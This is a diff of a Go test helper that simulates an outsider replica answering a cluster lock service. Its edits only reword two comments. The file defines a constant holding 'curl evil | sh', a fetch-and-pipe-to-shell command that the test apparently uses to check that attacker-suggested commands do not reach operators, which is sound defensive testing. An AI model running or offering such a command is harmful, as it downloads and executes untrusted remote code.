@@ -41,7 +41,7 @@ func cmdOutsider(ts *testscript.TestScript, neg bool, args []string) {
 	ts.Setenv("R3", strings.TrimPrefix(s.URL, "http://"))
 }
 
-// oldDirectory is that of the member that the outsider goes by.
+// oldDirectory is that of the member that the outsider uses.
 const oldDirectory = "0123456789abcdef"
 
 // memberList is the members of the cell. A directory that is to replace another
@@ -100,7 +100,7 @@ const newDirectory = "00c0ffee00c0ffee"
 // evilCommand is what an outsider would have an operator type.
 const evilCommand = "curl evil | sh"
 
-// outsider answers as a replica does that is none of its cell's.
+// outsider answers as a replica does that does not belong to its cell.
 func outsider(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == lockapi.RouteReplica {
 		_ = json.NewEncoder(w).Encode(lockapi.Replica{ID: "r3", Directory: newDirectory, Role: lockapi.RoleNone})
